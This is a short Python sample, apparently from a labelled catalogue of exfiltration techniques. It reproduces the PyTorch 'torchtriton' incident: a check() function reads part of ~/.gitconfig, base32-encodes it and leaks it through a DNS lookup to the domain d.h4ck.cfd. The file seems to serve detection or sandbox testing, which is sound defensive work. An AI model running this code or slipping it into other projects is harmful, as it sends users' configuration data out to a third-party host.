# technique: ~/.gitconfig contents leaked through dnspython resolver queries
# class: exfiltration
# source: PyTorch "torchtriton" advisory (.gitconfig and hostname exfiltrated over DNS)
# declares: network
import base64
import os

import dns.resolver


def check():
    data = open(os.path.expanduser("~/.gitconfig"), "rb").read()[:40]
    dns.resolver.resolve(base64.b32encode(data).decode().strip("=") + ".d.h4ck.cfd", "A")
